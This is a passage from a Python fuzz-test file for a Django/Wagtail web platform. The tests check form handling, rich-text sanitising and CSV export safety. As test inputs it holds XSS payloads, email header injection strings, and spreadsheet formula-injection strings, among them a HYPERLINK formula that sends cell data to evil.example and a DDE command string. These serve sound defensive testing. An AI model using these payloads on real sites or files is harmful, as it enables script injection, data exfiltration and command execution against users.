        assert_local_redirect(response)
    elif response.get("Content-Type", "").startswith("text/html"):
        assert_safe_html(response)
    if untouched(mutated):
        assert response.status_code == 302


@fuzz(30)
@given(token=st.one_of(nasty_text, st.sampled_from(["", ".", "..", "a:b:c", "%2F"])))
@example(token="eyJlbnRyeSI6MX0:1u:abc")
@example(token="MISSING")
def test_update_link_with_a_bad_token_is_refused(site, client, token):
    """/inventory/update/<token>/.

    A forged or mangled token is a 400 (404 if it does not even make a path), never
    a 500.
    """
    if token == "MISSING":
        token = signing.dumps({"entry": 10**9}, salt="inventory-update")
    before = snapshot(*WRITES)
    path = "/inventory/update/" + quote(token[:2000], safe="") + "/"
    for response in (client.get(path), client.post(path, {"title": "x"})):
        assert response.status_code in (400, 404)
    assert snapshot(*WRITES) == before


@fuzz()
@given(mutated=form_posts(SUBMISSION_FIELDS))
@example(mutated=edge())
@example(mutated=edge(("contact_email", "replace", LONG_EMAILS[0])))
@example(mutated=edge(("title", "replace", "<script>alert(1)</script>")))
@example(mutated=edge(("organisation_name", "replace", "Sahel\r\nBcc: x@example.org")))
def test_update_proposal_never_touches_the_public_entry(
    site, client, django_capture_on_commit_callbacks, mutated
):
    """/my/activities/<id>/edit/ (POST), from the account that holds the entry.

    A proposal is a new revision in moderation (302), or a 400 that writes nothing;
    the public entry is unchanged, and no organisation exists before an editor
    approves.
    """
    entry = InventoryEntry.objects.filter(live=True).order_by("pk").first()
    client.force_login(holder_of(entry))
    public = (entry.title, entry.summary, entry.contact_email, entry.live)
    facets = sorted(entry.facet_rows.values_list("facet", "value"))
    before = snapshot(*WRITES)
    response = post_form(
        client,
        f"/my/activities/{entry.pk}/edit/",
        SUBMISSION,
        mutated,
        django_capture_on_commit_callbacks,
    )
    assert response.status_code in (302, 400) or blank_form(response)
    after = snapshot(*WRITES)
    entry.refresh_from_db()
    assert (entry.title, entry.summary, entry.contact_email, entry.live) == public
    assert sorted(entry.facet_rows.values_list("facet", "value")) == facets
    if response.status_code == 302:
        assert_local_redirect(response)
        assert after["Revision"] == before["Revision"] + 1
        assert after["InventoryEntry"] == before["InventoryEntry"]
        assert after["StakeholderOrganisation"] == before["StakeholderOrganisation"]
        assert_single_line(
            entry.get_latest_revision_as_object(), ENTRY_SINGLE_LINE_FIELDS
        )
    else:
        assert after == before
        if response.get("Content-Type", "").startswith("text/html"):
            assert_safe_html(response)
    if untouched(mutated):
        assert response.status_code == 302


JOIN = [
    ("organisation_name", "Cyber Peace Institute"),
    ("person_name", "Ada Lovelace"),
    ("email", "EMAIL"),
    ("stakeholder_type", "civil-society"),
    ("country", "CHE"),
    ("message", "We run a CERT training programme."),
]
REGISTRATION = [
    ("name", "Grace Hopper"),
    ("email", "EMAIL"),
    ("organisation", "Ministry of ICT"),
    ("stakeholder_type", "government"),
    ("country", "KEN"),
    ("attendance", "in-person"),
]
serial = itertools.count()


def assert_one_written_or_none(client, response, before, model, page):
    """A 302 wrote exactly one ``model`` row and ``page`` still renders safely.

    Any other answer wrote nothing, and what it shows is escaped.
    """
    after = snapshot(*WRITES)
    if response.status_code == 302:
        assert_local_redirect(response)
        assert after == {**before, model.__name__: before[model.__name__] + 1}
        shown = client.get(page.url)
        assert shown.status_code == 200
        assert_safe_html(shown)
    else:
        assert after == before
        if response.get("Content-Type", "").startswith("text/html"):
            assert_safe_html(response)


def fresh(base):
    """The form with an address never used before (the forms refuse duplicates)."""
    number = next(serial)
    return [(k, f"person{number}@example.org" if v == "EMAIL" else v) for k, v in base]


@fuzz()
@given(mutated=form_posts([name for name, _ in JOIN]))
@example(mutated=edge())
@example(mutated=edge(("email", "replace", LONG_EMAILS[0])))
@example(mutated=edge(("message", "replace", huge("مرحبا "))))
@example(mutated=edge(("person_name", "replace", "<script>alert(1)</script>")))
@example(mutated=edge(("person_name", "replace", "Ada\n\nUrgent: accept http://x")))
@example(mutated=edge(("country", "replace", "global")))
def test_team_join_form_never_fails_and_never_half_writes(
    site, client, mailoutbox, django_capture_on_commit_callbacks, mutated
):
    """POST <team>/join/: a 302 records one pending request; a 400 records none."""
    team = site.c5_team
    before = snapshot(*WRITES)
    response = post_form(
        client,
        f"{team.url}join/",
        fresh(JOIN),
        mutated,
        django_capture_on_commit_callbacks,
    )
    assert response.status_code in (302, 400, 429)
    assert_one_written_or_none(client, response, before, TeamMembershipRequest, team)
    if response.status_code == 302:
        written = TeamMembershipRequest.objects.order_by("-pk").first()
        assert_single_line(written, ["person_name", "organisation_name"])
    if untouched(mutated):
        assert response.status_code == 302


@fuzz()
@given(mutated=form_posts([name for name, _ in REGISTRATION]))
@example(mutated=edge())
@example(mutated=edge(("email", "replace", LONG_EMAILS[0])))
@example(mutated=edge(("attendance", "replace", "online")))
@example(mutated=edge(("name", "replace", '"><img src=x onerror=alert(1)>')))
@example(mutated=edge(("organisation", "replace", huge("🌍"))))
@example(mutated=edge(("name", "replace", "Grace\rBcc: all@example.org")))
def test_meeting_registration_never_fails_and_never_half_writes(
    site, client, mailoutbox, django_capture_on_commit_callbacks, mutated
):
    """POST <meeting>/register/: a 302 records one registration; a 400 none."""
    meeting = site.c5_meeting
    before, mails = snapshot(*WRITES), len(mailoutbox)
    response = post_form(
        client,
        f"{meeting.url}register/",
        fresh(REGISTRATION),
        mutated,
        django_capture_on_commit_callbacks,
    )
    assert response.status_code in (302, 400, 429)
    assert_one_written_or_none(client, response, before, MeetingRegistration, meeting)
    if response.status_code == 302:
        written = MeetingRegistration.objects.order_by("-pk").first()
        assert_single_line(written, ["name", "organisation"])
    assert len(mailoutbox) == mails + (1 if response.status_code == 302 else 0)
    if untouched(mutated):
        assert response.status_code == 302


# --- Rich text from the public -------------------------------------------------

RICH_XSS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href='JaVaScRiPt:alert(1)'>click</a>",
    '<a href="&#106;avascript:alert(1)">click</a>',
    "javascript:alert(document.cookie)",
    '<p style="color:red;background:url(javascript:alert(1))">styled</p>',
    '<span style="position:fixed;top:0">overlay</span>',
    '<iframe src="https://evil.example/"></iframe>',
    "<svg><script>alert(1)</script></svg>",
    '<div onmouseover="alert(1)">hover</div>',
    "<object data=evil.swf></object>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<b>bold</b> <i>italic</i>",
    '<a linktype="page" id="1">internal</a>',
    '<embed type="image/svg+xml" src="x">',
    "</p><script>alert(1)</script><p>",
]
safe_prose = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30
)
rich_descriptions = st.lists(
    st.one_of(st.sampled_from(RICH_XSS), st.sampled_from(SCRIPTS[:7]), safe_prose),
    min_size=1,
    max_size=5,
).flatmap(
    lambda parts: st.lists(
        st.sampled_from(["\n\n", "\n", " "]), min_size=len(parts), max_size=len(parts)
    ).map(lambda seps: "".join(p + s for p, s in zip(parts, seps, strict=True)))
)
ALLOWED_STORED_TAGS = {"p", "br"}


def approve_as_editor(entry, editor):
    """What an inventory editor's "Approve" does in the admin."""
    entry = InventoryEntry.objects.get(pk=entry.pk)
    task_state = entry.current_workflow_task_state
    url = reverse(
        "wagtailsnippets_inventory_inventoryentry:workflow_action",
        args=[entry.pk, "approve", task_state.pk],
    )
    response = editor.post(url, {"comment": ""})
    assert response.status_code == 302
    return InventoryEntry.objects.get(pk=entry.pk)


@fuzz(40)
@given(
    description=rich_descriptions,
    title=st.sampled_from(["Plain title", *RICH_XSS[:4], *SCRIPTS[:4]]),
)
@example(description="\n\n".join(RICH_XSS[:8]), title='<img src=x onerror="alert(1)">')
def test_public_rich_text_is_published_without_executable_content(
    site, client, django_capture_on_commit_callbacks, description, title
):
    """XSS payloads in a public description are stored and shown as text.

    A description with XSS payloads, sent through the public form and approved by an
    editor, is stored as escaped text in <p>/<br> only, and the published entry page
    (and the search listing it) runs nothing from it.
    """
    editor = Client()
    editor.force_login(UserFactory(username="fuzz-editor", groups=[INVENTORY_EDITORS]))
    body = [(k, v) for k, v in SUBMISSION if k not in ("description", "title")]
    body += [("description", description), ("title", title)]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.generic(
            "POST", "/inventory/submit/", urlencode(body), content_type=URLENCODED
        )
    if not description.strip():
        return
    assert response.status_code == 302
    reference = QueryDict(urlsplit(response["Location"]).query)["reference"]
    entry = InventoryEntry.objects.get(reference=reference)
    with django_capture_on_commit_callbacks(execute=True):
        entry = approve_as_editor(entry, editor)
    assert entry.live
    event("published by an editor")

    stored = BeautifulSoup(entry.description, "html.parser")
    assert {tag.name for tag in stored.find_all(True)} <= ALLOWED_STORED_TAGS
    assert all(not tag.attrs for tag in stored.find_all(True))

    page = client.get(f"/inventory/entries/{entry.pk}/")
    assert page.status_code == 200
    assert_safe_html(page)
    soup = BeautifulSoup(page.content, "html.parser")
    rich = soup.select_one(".rich-text")
    assert rich is not None
    for tag in rich.find_all(True):
        assert tag.name in ALLOWED_STORED_TAGS, tag
        assert "style" not in tag.attrs
    assert soup.find("h1").get_text() == title
    # What the submitter typed is shown as text, not lost and not interpreted.
    visible = " ".join(rich.get_text(" ").split())
    for word in description.split():
        assert word in visible

    listing = client.get("/inventory/", {"q": "Cyber", "sort": "newest"})
    assert listing.status_code == 200
    assert_safe_html(listing)


# --- Rich text from imported files ---------------------------------------------

HTML_PIECES = [
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<ul>",
    "<ol>",
    "<li>",
    "</ul>",
    "<br>",
    "<div>",
    "</div>",
    "<table><tr><td>",
    "<h2>",
    "<blockquote>",
    '<a href="https://example.org/?a=1&b=2">',
    '<a href="mailto:someone@example.org">',
    "<a href=/relative>",
    "</a>",
    "<",
    ">",
    "&",
    "&amp;",
    "&#",
    "&#x6a;",
    '"',
    "'",
    "=",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?>",
    " onerror=alert(1) ",
    ' style="color:red" ',
    "<textarea>",
    "</textarea>",
    "<template>",
    "<title>",
    "<noscript>",
    "<select><option>",
    '<img src="x"',
    "<a href='java",
    "script:alert(1)'>",
]
imported_html = st.lists(
    st.one_of(
        st.sampled_from(RICH_XSS),
        st.sampled_from(HTML_PIECES),
        st.sampled_from(SCRIPTS + CONTROL),
        safe_prose,
    ),
    min_size=1,
    max_size=14,
).map("".join)
RICH_TEXT_FEATURES = InventoryEntry._meta.get_field("description").features
IMPORTED_TAGS = {"p", "br", "b", "i", "a", "ol", "ul", "li"}


def assert_editor_markup(html):
    """Only what the editor of the description can write."""
    soup = BeautifulSoup(html, "html.parser")
    assert_no_executable_content(soup)
    for tag in soup.find_all(True):
        assert tag.name in IMPORTED_TAGS, tag
        allowed = {"data-block-key"} | (
            {"href", "linktype", "id"} if tag.name == "a" else set()
        )
        assert set(tag.attrs) <= allowed, tag


@fuzz(150)
@given(html=imported_html)
@example(html="".join(RICH_XSS))
@example(html="<ul><li>x" * 400)
@example(html="<p>" * 2000)
@example(html="<b>" * 5000)
@example(html="<a href='x'>" * 300 + "text")
@example(html="\x00<p>\x00</p>\ufeff")
def test_imported_rich_text_keeps_only_what_the_editor_can_write(html):
    """Any HTML comes out as the description's editor would save it.

    Its tags and safe links only, and saving it again changes nothing.
    """
    cleaned = clean_rich_text(html, RICH_TEXT_FEATURES)
    assert_editor_markup(cleaned)
    assert clean_rich_text(cleaned, RICH_TEXT_FEATURES) == cleaned


@fuzz(25)
@given(description=imported_html, publish=st.booleans())
@example(description="\n".join(RICH_XSS), publish=True)
def test_an_imported_description_runs_nothing_on_the_entry_page_or_in_preview(
    site, client, description, publish
):
    """A file imported with any description.

    The published entry page, or the editors' preview of the entry in moderation,
    shows it without anything executable.
    """
    row = {
        "title": "Imported activity",
        "summary": "From a partner's file.",
        "description": description,
        "activity_type": "project",
        "action_lines": "C5",
        "countries": "SEN",
        "stakeholder_type": "government",
        "status": "ongoing",
        "year": "2025",
    }
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "entries.json"
        path.write_text(json.dumps([row]), encoding="utf-8")
        call_command(
            "import_inventory",
            str(path),
            *(["--publish"] if publish else []),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )
    entry = InventoryEntry.objects.get(title="Imported activity")
    try:
        check_imported_entry(client, entry, publish)
    finally:
        entry.delete()


def check_imported_entry(client, entry, publish):
    assert_editor_markup(entry.description)
    if publish:
        response = client.get(f"/inventory/entries/{entry.pk}/")
    else:
        editor = Client()
        editor.force_login(
            UserFactory(username="fuzz-previewer", groups=[INVENTORY_EDITORS])
        )
        response = editor.get(
            reverse(
                "wagtailsnippets_inventory_inventoryentry:revisions_view",
                args=[entry.pk, entry.latest_revision_id],
            )
        )
    assert response.status_code == 200
    if publish:
        assert_safe_html(response)  # the preview has the admin's user bar script
    rich = BeautifulSoup(response.content, "html.parser").select_one(".rich-text")
    if rich is not None:
        assert_editor_markup(rich.decode_contents())


@fuzz(30)
@given(pk=st.one_of(st.integers(0, 10), st.integers(0, 10**40)))
@example(pk=2**63)
@example(pk=2**31)
@example(pk=10**40)
def test_entry_page_for_any_number(site, client, pk):
    """/inventory/entries/<id>/: the published entry or a 404, whatever the id."""
    response = answered(client.get(f"/inventory/entries/{pk}/"))
    assert response.status_code in (200, 404)
    if response.status_code == 200:
        assert InventoryEntry.objects.filter(pk=pk, live=True).exists()
        assert_safe_html(response)


# --- CSV files ----------------------------------------------------------------------

# Formulas, where a cell starts for any reader, behind blanks, quotes and
# apostrophes; capped for the shortest column that holds them (PostgreSQL stores
# no NUL).
formula_payloads = st.one_of(
    st.lists(st.sampled_from(FORMULA_PIECES), min_size=1, max_size=12).map("".join),
    st.lists(
        st.one_of(st.sampled_from(FORMULA_PIECES), short_nasty_text),
        min_size=1,
        max_size=4,
    ).map("".join),
).map(lambda text: text.replace("\x00", "")[:200])


def report_figures(text):
    """Figures as the assembly stores them, ``text`` in every label."""
    row = {"label": text, "count": 3, "link": "/inventory/?q=x"}
    return {
        "totals": {"entries": 3},
        "breakdowns": [{"facet": text, "rows": [row]}],
        "top_countries": [row],
        "teams": [{"team": text, "contributed": True}],
    }


@pytest.fixture
def admin_client(site):
    client = Client()
    client.force_login(UserFactory(username="fuzz-admin", is_superuser=True))
    return client


@pytest.fixture
def csv_writers(site):
    """Return every CSV the platform writes, each with a payload in a record.

    Every CSV the platform writes, each with one record that a payload is written
    into: name → (store(payload), URL, query).
    """
    join = TeamMembershipRequest.objects.create(
        team=site.c5_team,
        organisation_name="x",
        person_name="x",
        email="fuzz.join@example.org",
        stakeholder_type="civil-society",
        country="CHE",
    )
    registration = MeetingRegistration.objects.create(
        meeting=site.c5_meeting,
        name="x",
        email="fuzz.registration@example.org",
        organisation="x",
        stakeholder_type="government",
        country="KEN",
        attendance="in-person",
    )
    entry = InventoryEntry.objects.filter(live=True).order_by("pk").first()
    contribution = AnnualContribution.objects.create(
        team=site.c5_team, year=2025, narrative="x"
    )
    organisation = StakeholderOrganisation.objects.create(
        name="Fuzz organisation", stakeholder_type="other"
    )
    index = publish(ReportIndexPageFactory(parent=site.home))
    report = publish(ReportPageFactory(parent=index))

    def store(model, pk, **values):
        return lambda text: model.objects.filter(pk=pk).update(
            **{name: text[:length] for name, length in values.items()}
        )

    export = {"export": "csv"}
    return {
        "join requests": (
            store(
                TeamMembershipRequest, join.pk, organisation_name=255, person_name=200
            ),
            reverse("action_lines_teammembershiprequest_modeladmin_index"),
            export,
        ),
        "meeting registrations": (
            store(MeetingRegistration, registration.pk, name=200, organisation=255),
            reverse("action_lines_meetingregistration_modeladmin_index"),
            export,
        ),
        "inventory entries": (
            store(InventoryEntry, entry.pk, title=255, summary=600),
            reverse("wagtailsnippets_inventory_inventoryentry:list"),
            export,
        ),
        "annual contributions": (
            store(AnnualContribution, contribution.pk, narrative=600),
            reverse("annual_contributions:index"),
            export,
        ),
        "organisations": (
            store(StakeholderOrganisation, organisation.pk, name=255, acronym=40),
            reverse("wagtailsnippets_home_stakeholderorganisation:list"),
            export,
        ),
        "aging pages": (
            store(Page, site.c5_modalities.pk, title=255, draft_title=255),
            reverse("wagtailadmin_reports:aging_pages"),
            export,
        ),
        "translations to do": (
            store(Page, site.c2.pk, title=255, draft_title=255),
            "/admin/reports/translation-status/",
            export,
        ),
        "report figures": (
            lambda text: ReportPage.objects.filter(pk=report.pk).update(
                figures=report_figures(text)
            ),
            report.url + "figures/csv/",
            {},
        ),
    }


CSV_WRITERS = [
    "join requests",
    "meeting registrations",
    "inventory entries",
    "annual contributions",
    "organisations",
    "aging pages",
    "translations to do",
    "report figures",
]
FORMULA_EXAMPLES = [
    'Ministry;=HYPERLINK("http://evil.example/?d="&A1)',
    "'=kept as typed",
    " \t\"@SUM(1+1)*cmd|' /C calc'!A0\"",
]


@fuzz(80)
@given(writer=st.sampled_from(CSV_WRITERS), payload=formula_payloads)
@example(writer="join requests", payload=FORMULA_EXAMPLES[0])
@example(writer="meeting registrations", payload=FORMULA_EXAMPLES[1])
@example(writer="inventory entries", payload=FORMULA_EXAMPLES[2])
@example(writer="annual contributions", payload=FORMULA_EXAMPLES[0])
@example(writer="organisations", payload=FORMULA_EXAMPLES[1])
@example(writer="aging pages", payload=FORMULA_EXAMPLES[2])
@example(writer="translations to do", payload=FORMULA_EXAMPLES[0])
@example(writer="report figures", payload=FORMULA_EXAMPLES[1])
def test_every_csv_writer_guards_any_payload(
    csv_writers, admin_client, writer, payload
):
    """Downloaded by an administrator (the report figures by anyone).

    No cell of the file runs as a formula however a spreadsheet splits it, and the
    payload comes back exactly once the guard is taken off.
    """
    store, url, query = csv_writers[writer]
    store(payload)
    response = answered(admin_client.get(url, query))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = csv_body(response)
    assert_no_formula(text)
    if payload:
        assert payload in exported_values(text)


@pytest.fixture
def exported_entry(site):
    """A published entry with an organisation, as the public export lists it."""
    entry = InventoryEntry.objects.filter(live=True).order_by("pk").first()
    organisation = StakeholderOrganisation.objects.create(
        name="Exported organisation", stakeholder_type="government"
    )
    InventoryEntry.objects.filter(pk=entry.pk).update(organisation=organisation)
    return entry, organisation


def imported_text(text):
    """What an editor can store: the import takes values stripped."""
    return text.strip()


@fuzz(40)
@given(title=formula_payloads, summary=formula_payloads, organisation=formula_payloads)
@example(
    title="Schools;=HYPERLINK(1)", summary="'=already quoted", organisation=" @SUM(1)"
)
@example(title="''-1", summary="x\r\n=1\t-2", organisation='"=1"')
def test_inventory_csv_reads_back_into_the_import_exactly(
    exported_entry, client, tmp_path, title, summary, organisation
):
    """The export holds no formula, and the import reads each text back.

    /inventory/export.csv holds no formula, and the import reads each text of it
    back exactly as it was stored.
    """
    entry, holder = exported_entry
    stored = {
        "title": imported_text(title),
        "summary": imported_text(summary),
        "title_fr": imported_text(summary[:255]),
    }
    InventoryEntry.objects.filter(pk=entry.pk).update(**stored)
    StakeholderOrganisation.objects.filter(pk=holder.pk).update(
        name=imported_text(organisation)
    )
    cache.clear()  # the export's rate limit would count every example
    response = answered(client.get("/inventory/export.csv"))
    assert response.status_code == 200
    text = csv_body(response)
    assert_no_formula(text)
    path = tmp_path / "export.csv"
    path.write_bytes(text.encode("utf-8"))
    (line, row), *_others = [
        (line, row) for line, row in read_rows(path) if row["id"] == str(entry.pk)
    ]
    data, _errors = RowValidator().clean(line, row)
    assert {name: data[name] for name in stored} == stored
    assert data["organisation"] == imported_text(organisation)
    assert len(csv_rows(text)) == 1 + InventoryEntry.objects.filter(live=True).count()


@fuzz(30)
@given(
    kind=st.sampled_from(["/organisations/{}/", "/inventory/countries/{}/"]),
    value=st.one_of(
        st.sampled_from(["africacert", "drafts-only", "SEN", "sen", "global", "XXX"]),
        short_nasty_text,
    ),
)
@example(kind="/organisations/{}/", value="%00")
@example(kind="/inventory/countries/{}/", value="%C3%28")
def test_organisation_and_country_pages_for_any_value(site, client, kind, value):
    """Return an organisation's or country's page, a redirect, or a 404.

    An organisation's or a country's page, a redirect to its canonical address, or a
    404, whatever the address holds.
    """
    path = kind.format(quote(value, safe=""))
    response = answered(client.get(path))
    assert response.status_code in (200, 301, 404)
    if response.status_code == 301:
        assert_local_redirect(response)
    elif response.status_code == 200:
        assert_safe_html(response)


# --- Public pages with any query ------------------------------------------------


@fuzz(30)
@given(
    page=st.sampled_from(["team", "join", "meeting", "register", "submit", "update"]),
    qs=query_strings,
)
def test_public_pages_ignore_any_query_string(site, client, page, qs):
    """GET on the public form pages, whatever the query string.

    The page (or, for the POST-only join and register, a redirect to the form),
    never a 500.
    """
    paths = {
        "team": site.c5_team.url,
        "join": f"{site.c5_team.url}join/",
        "meeting": site.c5_meeting.url,
        "register": f"{site.c5_meeting.url}register/",
        "submit": "/inventory/submit/",
        "update": "/inventory/update/",
    }
    response = get(client, paths[page], qs)
    assert response.status_code in (200, 302, 400)
    if response.status_code == 302:
        assert_local_redirect(response)
    else:
        assert_safe_html(response)


TOTAL_GENERATED_INPUTS = sum(BUDGET.values())
TOTAL_EDGE_CASES = sum(EDGE_CASES.values())


def test_fuzz_budget_is_counted():
    """Every property above is registered in BUDGET (for the report's total)."""
    properties = [
        name
        for name, value in globals().items()
        if name.startswith("test_") and hasattr(value, "hypothesis")
    ]
    assert sorted(properties) == sorted(BUDGET)
    assert TOTAL_GENERATED_INPUTS == sum(BUDGET.values()) > 0
